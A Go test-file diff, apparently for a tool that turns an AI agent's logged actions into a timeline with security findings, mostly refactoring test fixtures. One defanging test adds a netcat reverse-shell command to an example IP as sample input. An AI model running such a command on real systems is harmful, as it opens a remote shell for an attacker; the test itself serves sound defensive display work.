@@ -29,7 +29,7 @@ func decodeData(t rapid.TB, s *Story) decoded {
 	var b bytes.Buffer
 	var d decoded
 	data := newTimelineData(s)
-	groupFindings(s.Findings, data)
+	groupFindings(s, data)
 	if err := data.write(&b); err != nil {
 		t.Fatal(err)
 	}
@@ -47,7 +47,8 @@ func TestTimelineDataKeepsEveryEvent(t *testing.T) {
 		for i := range s.Events {
 			e := &s.Events[i]
 			e.Time = time.UnixMilli(rapid.Int64Range(-1e12, 4e12).Draw(t, "time")).UTC().Format("2006-01-02T15:04:05.000Z")
-			e.What, e.ID, e.Session = rapid.String().Draw(t, "what"), rapid.SampledFrom([]string{"a.1", "a.2", ""}).Draw(t, "id"), rapid.SampledFrom([]string{"a", "ab"}).Draw(t, "session")
+			e.What, e.ID = rapid.String().Draw(t, "what"), rapid.SampledFrom([]string{"a.1", "a.2", ""}).Draw(t, "id")
+			e.Session = rapid.SampledFrom([]string{"a", "ab"}).Draw(t, "session")
 			e.Kind, e.Bytes = rapid.SampledFrom(analyze.Kinds).Draw(t, "kind"), rapid.Int64Range(0, 1<<50).Draw(t, "bytes")
 		}
 		d := decodeData(t, s)
@@ -80,7 +81,9 @@ func TestFindingsMarkTheirEvents(t *testing.T) {
 	event := func(session string, kind analyze.Kind, at string) analyze.Record {
 		return analyze.Record{ID: "80f0b671.4", Session: session, Kind: kind, Time: at}
 	}
-	s := &Story{Events: []analyze.Record{event("80f0b671-a", analyze.KindSession, "1"), event("80f0b671-b", analyze.KindExec, "1"), event("80f0b671-a", analyze.KindExec, "1"), {ID: "x.1"}}}
+	s := &Story{Events: []analyze.Record{
+		event("80f0b671-a", analyze.KindSession, "1"), event("80f0b671-b", analyze.KindExec, "1"), event("80f0b671-a", analyze.KindExec, "1"), {ID: "x.1"},
+	}}
 	s.Findings = []analyze.FindingRecord{{Level: severity.High, Event: &s.Events[2], Related: []string{"80f0b671.4", "x.1", "gone.1"}}}
 	d := decodeData(t, s)
 	if got, want := fmt.Sprint(d.Columns["level"], d.Findings["event"]), "[0 0 4 4] [2 3]"; got != want {
@@ -166,7 +169,7 @@ func TestTooManyEvents(t *testing.T) {
 func TestDefangKeepsNames(t *testing.T) {
 	for text, want := range map[string]string{
 		"MEMORY.md": "MEMORY.md", "session.started": "session.started", "http://evil.example/x": "hxxp://evil[.]example/x",
-		"198.51.100.7": "198.51.100[.]7", "a@evil.example": "a[@]evil[.]example", "evil.example/x": "evil[.]example/x",
+		"nc 198.51.100.7:4444 -e sh": "nc 198.51.100[.]7:4444 -e sh", "a@evil.example": "a[@]evil[.]example", "2026.9.6": "2026.9.6",
 	} {
 		if got := say(text); got != want {
 			t.Errorf("%q is shown as %q, not %q", text, got, want)
@@ -181,14 +184,20 @@ func TestDefangKeepsNames(t *testing.T) {
 func manyEvents(n int) *Story {
 	s := small()
 	at := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
-	deeds := []string{"git status --short && git diff --stat", "cat /home/claw/notes/week.md", "curl -s https://api.example.test/v1/items?page=", "<p>Der Bäcker sagt: 75 % &amp; mehr</p>"}
+	deeds := []string{
+		"git status --short && git diff --stat", "cat /home/claw/notes/week.md", "curl -s https://api.example.test/v1/items?page=",
+		"<p>Der Bäcker sagt: 75 % &amp; mehr</p>",
+	}
+	asker := analyze.Asker{Kind: "channel", Channel: "telegram", Sender: "555000111", Owner: analyze.OwnerYes}
+	source := "/home/claw/.openclaw/agents/main/agent/openclaw-agent.sqlite"
 	kinds := []analyze.Kind{analyze.KindExec, analyze.KindRead, analyze.KindFetch, analyze.KindResult}
 	for i := range n {
 		s.Events = append(s.Events, analyze.Record{
 			Time: at.Add(time.Duration(i) * 20 * time.Second).Format("2006-01-02T15:04:05.000Z"), Kind: kinds[i%4], ID: fmt.Sprintf("9c2e11d0.%d", i), Agent: "main",
-			Session: fmt.Sprintf("9c2e11d0-%d", i/500), SessionKey: "agent:main:telegram:direct:555000111", Asker: analyze.Asker{Kind: "channel", Channel: "telegram", Sender: "555000111", Owner: analyze.OwnerYes},
-			Tool: "exec", CallID: fmt.Sprintf("call_%d", i), Parent: fmt.Sprintf("p%08x", i), What: fmt.Sprint(deeds[i%4], i), Cwd: "/home/claw/.openclaw/workspace",
-			Result: analyze.Result{Status: analyze.StatusOK, Millis: int64(i % 900), Size: int64(i % 5000), Recorded: true}, Source: "/home/claw/.openclaw/agents/main/agent/openclaw-agent.sqlite", Form: "sqlite", Line: int64(i),
+			Session: fmt.Sprintf("9c2e11d0-%d", i/500), SessionKey: "agent:main:telegram:direct:555000111", Asker: asker,
+			Tool: "exec", CallID: fmt.Sprintf("call_%d", i), Parent: fmt.Sprintf("p%08x", i), What: fmt.Sprint(deeds[i%4], i),
+			Cwd: "/home/claw/.openclaw/workspace", Source: source, Form: "sqlite", Line: int64(i),
+			Result: analyze.Result{Status: analyze.StatusOK, Millis: int64(i % 900), Size: int64(i % 5000), Recorded: true},
 		})
 	}
 	return s
